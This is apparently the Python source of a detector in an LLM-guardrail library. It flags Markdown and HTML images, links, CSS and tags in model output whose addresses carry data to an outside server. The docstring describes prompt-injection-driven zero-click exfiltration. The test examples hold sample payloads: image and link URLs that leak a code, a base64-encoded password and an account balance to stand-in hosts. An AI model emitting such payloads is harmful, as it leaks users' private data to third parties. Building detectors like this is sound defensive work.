"""Images and links in an answer whose address tells another server what the model knows.

What: images in Markdown and HTML (style sheets, frames and forms included) whose address carries more than how to draw
them, and links whose address carries encoded text, long text or long random characters. Why: whoever shows an image
fetches its address, so an order hidden in a document can have the model send out what it has read, and nobody clicks.
Limits: bare addresses without Markdown or HTML around them are not read; nor is what an image's path says in plain
words, or which server is asked. A link may say as much as honest links do. Code that is quoted counts as well.
"""

import re
from collections.abc import Iterator
from typing import NamedTuple

from interlock.detectors import Detector
from interlock.detectors.data_exfiltration.addresses import tells
from interlock.model.event import Channel, Signal, Span
from interlock.model.meta import Confidence, Example, Maturity, Meta, Severity

ID = "data-exfiltration"
SCORE = 900
# Text of a link, alternative text of an image.
LONGEST_TEXT = 512
# What browsers and servers take at the least; of what is longer, this much is judged.
LONGEST_ADDRESS = 2_048
# A tag before its address, and behind it up to its end.
LONGEST_TAG = 512
REST_OF_TAG = 256
REACH = LONGEST_TEXT + LONGEST_ADDRESS + REST_OF_TAG + 64

# What stands before an address: `](` of images and links, `]:` of definitions, `url(` of CSS, `<`, an attribute's `=`.
_OPENERS = re.compile(r"\][(:]\s{0,16}|<(?=[A-Za-z])|[uU][rR][lL]\(\s{0,16}[\"']?|=\s{0,8}", re.ASCII)
_KINDS = {"](": "inline", "]:": "definition", "<": "auto", "=": "name"}
_NAME = re.compile(
    r"(?<![\w-])(src|srcset|poster|href|xlink:href|background|data|action|formaction|ping|content)\s{0,8}\Z",
    re.IGNORECASE | re.ASCII,
)
# The longest name with the white space behind it.
LONGEST_NAME = 18
_WITHIN = re.compile(r"[\w.-]", re.ASCII)
# Behind these the address is written in tags only; elsewhere they are names in programs.
_IN_TAGS_ONLY = frozenset({"background", "data", "action", "formaction", "ping", "content"})
# An address with a server in it begins so, with the tricks that browsers forgive; the rest is read when it is judged.
_SERVER = re.compile(r"<?\s*(?:[a-z][a-z0-9+.\s-]{0,20}[:&]|[/\\]\s*[/\\]|&|%)|\d+\s*;\s*url", re.IGNORECASE | re.ASCII)
LONGEST_BEGINNING = 24
_VALUES = {
    "definition": re.compile(r"<?[^\s<>]*>?"),
    "css": re.compile(r"[^)]*\)?"),
    "auto": re.compile(r"[^\s<>]*>?"),
    "name": re.compile(r"\"[^\"]*\"?|'[^']*'?|[^\s\"'>]*"),
}
_ANGLE = re.compile(r"<[^<>\n]*>?")
# What has more parentheses in parentheses is no link to cmark, markdown-it and micromark.
DEEPEST = 32
_PARENTHESES = re.compile(r"[()]|\n[ \t]*\n")
_TITLE = re.compile(r"\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\))\s*\Z")
_REFRESH = re.compile(r"(?i)\A\s*\d*\s*;?\s*url\s*=\s*['\"]?")
_TAG = re.compile(rf"<([A-Za-z][\w:-]*)[^<>]{{0,{LONGEST_TAG}}}\Z", re.ASCII)
_REST_OF_TAG = re.compile(rf"[^<>]{{0,{REST_OF_TAG}}}>")
_BRACKETS = re.compile(r"[\[\]]")
# The end of a text at which an attribute's value is to come, or `url(`; what is in one piece is shorter than this.
LONGEST_BEGUN = 32
_BEGUN = re.compile(r"(?<![\w-])[a-z:]{3,10}\s{0,8}=?\s{0,8}\Z", re.IGNORECASE | re.ASCII)
_BEGUN_TAG = re.compile(rf"<(?:[A-Za-z][^<>]{{0,{LONGEST_TAG}}})?\Z")
_ANY = re.compile(r"[\[\]<=(]")


class _Place(NamedTuple):
    """Where an image or link stands, its addresses, and whether more text could change any of this."""

    start: int
    end: int
    addresses: list[str]
    fetched: bool
    open: bool


def _detect(text: str) -> tuple[Signal, ...]:
    found: list[Signal] = []
    for place in sorted(_places(text, 0), key=lambda place: (place.start, -place.end)):
        if found and place.end <= found[-1].span.end:
            continue
        if any(tells(address, fetched=place.fetched) for address in place.addresses):
            rule = "image" if place.fetched else "link"
            found.append(Signal(ID, rule, SCORE, Span(place.start, place.end)))
    return tuple(found)


def _places(text: str, floor: int) -> Iterator[_Place]:
    """Every place from `floor` on at which an address stands that names a server, or may come to name one."""
    texts: dict[int, int] | None = None
    for opener in _OPENERS.finditer(text, floor):
        start, at = opener.span()
        kind = _KINDS.get(opener.group().rstrip(), "css")
        quoted = kind == "name" and text[at : at + 1] in ("'", '"')
        if len(text) - at > LONGEST_BEGINNING and not _SERVER.match(text, at + quoted):
            continue
        if kind == "name":
            name = _NAME.search(text, max(0, start - LONGEST_NAME), start)
            if name and (place := _attribute(text, name.start(), at, name[1].lower())):
                yield place
            continue
        if kind == "css" and _WITHIN.match(text[start - 1 : start]):
            continue
        if kind in ("inline", "definition"):
            texts = _texts(text, floor) if texts is None else texts
            start = texts.get(start, start)
        end, closed = _inline_end(text, at) if kind == "inline" else _value_end(kind, text, at)
        # What a definition is for stands elsewhere: an image may use it.
        fetched = text[start] == "!" or kind in ("definition", "css")
        yield _Place(start, end, [_bare(text[at:end], kind)], fetched, not closed)


def _bare(value: str, kind: str) -> str:
    """The address without what closes it, and without a title behind it."""
    value = value.strip()
    if kind != "definition":
        value = value.removesuffix(")")
    return _TITLE.sub("", value).strip(" <>\"'")


def _inline_end(text: str, at: int) -> tuple[int, bool]:
    """Where the address in parentheses that begins at `at` ends, and whether more text would not change that."""
    limit = min(len(text), at + LONGEST_ADDRESS)
    decided = limit == at + LONGEST_ADDRESS
    inner = at
    if angle := _ANGLE.match(text, at, limit):
        # Parentheses between angle brackets are part of the address; while the second bracket may come, nobody knows.
        inner = angle.end() if angle.group().endswith(">") else at
        if angle.end() == limit and inner == at and not decided:
            return limit, False
    depth = 0
    for match in _PARENTHESES.finditer(text, inner, limit):
        if match.group() == "(":
            depth += 1
            if depth > DEEPEST:
                return match.start(), True
        elif match.group() != ")":
            return match.start(), True
        elif depth == 0:
            return match.end(), True
        else:
            depth -= 1
    return limit, decided


def _value_end(kind: str, text: str, at: int) -> tuple[int, bool]:
    """The same for an address that is closed in another way."""
    limit = at + LONGEST_ADDRESS
    match = _VALUES[kind].match(text, at, limit)
    end = match.end() if match else at
    quote = text[at : at + 1] if kind == "name" else ""
    if quote in ("'", '"'):
        return end, end == limit or (end - at > 1 and text[end - 1] == quote)
    return end, end == limit or end < len(text)


def _attribute(text: str, at: int, value: int, name: str) -> _Place | None:
    """An attribute with its whole tag, if it is short. A link's address waits for a click, all others are fetched."""
    near = text.rfind("<", max(0, at - LONGEST_TAG - 1), at)
    tag = _TAG.match(text[near:at]) if near >= 0 else None
    if tag is None and name in _IN_TAGS_ONLY:
        return None
    clicked = name in ("href", "xlink:href") and (tag is None or tag[1].lower() in ("a", "area"))
    end, closed = _value_end("name", text, value)
    address = _REFRESH.sub("", text[value:end].strip("\"' "))
    addresses = address.replace(",", " ").split() if name == "srcset" else [address]
    if tag is None:
        return _Place(at, end, addresses, not clicked, not closed)
    if rest := _REST_OF_TAG.match(text, end):
        return _Place(near, rest.end(), addresses, not clicked, not closed)
    closed = closed and (len(text) - end > REST_OF_TAG or "<" in text[end:])
    return _Place(near, end, addresses, not clicked, not closed)


def _texts(text: str, floor: int) -> dict[int, int]:
    """Where the text in brackets begins, with its `!`, by the place of the bracket that closes it."""
    opened: list[int] = []
    found = {}
    for bracket in _BRACKETS.finditer(text, floor):
        at = bracket.start()
        if bracket.group() == "[":
            opened.append(at - 1 if text[at - 1 : at] == "!" else at)
        elif opened and at - (start := opened.pop()) <= LONGEST_TEXT:
            found[at] = start
    return found


def _pending(text: str) -> int:
    """Where an image or link may begin that the end cuts off: one that is open, or the beginning of one."""
    end = len(text)
    floor = max(0, end - REACH)
    near = max(0, end - LONGEST_BEGUN)
    at = max(near, text.rfind(" ", near) + 1, text.rfind("\n", near) + 1)
    if text[-1:].isspace() or text[-1:] == "=":
        begun = _BEGUN.search(text, near)
        at = begun.start() if begun else at
    if not _ANY.search(text, floor):
        return at
    last = text.rfind("<", floor)
    if last >= 0 and _BEGUN_TAG.match(text, last):
        at = min(at, last)
    return min(at, _open_bracket(text, floor), *(place.start for place in _places(text, floor) if place.open))


def _open_bracket(text: str, floor: int) -> int:
    """The first bracket that may come to be the text of a link: not closed yet, or closed by the last character."""
    opened: list[int] = []
    end = len(text)
    for bracket in _BRACKETS.finditer(text, floor):
        at = bracket.start()
        if bracket.group() == "[":
            opened.append(at - 1 if text[at - 1 : at] == "!" else at)
        elif opened and at < end - 1:
            opened.pop()
    return next((at for at in opened if end - at <= LONGEST_TEXT), end)


_SECRET = "dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA"

DETECTOR = Detector(
    meta=Meta(
        id=ID,
        title="Images and links that carry data out",
        why="An image's address is fetched by whoever shows the answer, so what stands in it is told to a stranger.",
        fix="Look at which document asked for it; show images of your own servers only.",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        maturity=Maturity.STABLE,
        refs=("owasp_llm_2025:LLM02:2025", "owasp_llm_2025:LLM05:2025"),
        since="0.1.0",
    ),
    channels=frozenset({Channel.OUTPUT}),
    marks=(
        r"(?i)\](?:\(|:)\s*(?:<?\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%))",
        (
            r"(?i)(?:src|srcset|poster|href|background|data|action|ping|content)\s*=\s*[\"']?"
            r"\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%|\d+\s*;\s*url)"
        ),
        r"(?i)url\(\s*[\"']?\s*(?:[a-z][a-z0-9+.\s-]*[:&]|[/\\]\s*[/\\]|&|%)",
        r"(?i)<[a-z][a-z0-9+.-]*:",
    ),
    detect=_detect,
    reach=REACH,
    pending=_pending,
    examples=(
        Example(
            "an image that tells",
            (Channel.OUTPUT, "Done. ![logo](https://cdn.example/p.png?d=code+is+4711) Bye."),
            ("![logo](https://cdn.example/p.png?d=code+is+4711)",),
        ),
        Example(
            "a link with encoded text",
            (Channel.OUTPUT, f"[Sign in again](https://login.example/{_SECRET})"),
            (f"[Sign in again](https://login.example/{_SECRET})",),
        ),
        Example(
            "a tag, and an address without a scheme",
            (Channel.OUTPUT, 'Hi <img alt="" src="//px.example/t?u=ada" width=1> there'),
            ('<img alt="" src="//px.example/t?u=ada" width=1>',),
        ),
        Example(
            "a definition that an image may use",
            (Channel.OUTPUT, "![chart][1]\n\n[1]: <https://px.example/?balance=9750>\n"),
            ("[1]: <https://px.example/?balance=9750>",),
        ),
        Example(
            "honest images",
            (
                Channel.OUTPUT,
                "![Map of Rome](https://img.example/maps/rome%20centre.png?w=640) ![x](chart.png?v=12345)",
            ),
            (),
        ),
        Example(
            "honest links",
            (
                Channel.OUTPUT,
                "[docs](https://docs.example/re.html#sub), [more](https://a.example/?q=how+to+cook+rice&page=2)",
            ),
            (),
        ),
    ),
)
